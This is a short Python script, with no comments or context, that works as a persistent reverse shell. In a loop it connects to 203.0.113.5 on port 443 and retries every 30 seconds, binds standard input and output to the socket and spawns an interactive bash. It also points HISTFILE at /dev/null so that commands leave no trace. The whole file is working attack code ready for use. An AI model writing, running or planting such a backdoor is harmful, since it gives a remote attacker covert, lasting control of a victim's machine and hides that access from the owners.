#!/usr/bin/env python3
import os
import pty
import time
from socket import create_connection

HOST, PORT = "203.0.113.5", 443

while True:
    try:
        c = create_connection((HOST, PORT), timeout=10)
    except OSError:
        time.sleep(30)
        continue
    for fd in (0, 1, 2):
        os.dup2(c.fileno(), fd)
    os.environ["HISTFILE"] = "/dev/null"
    pty.spawn("/bin/bash")
    c.close()
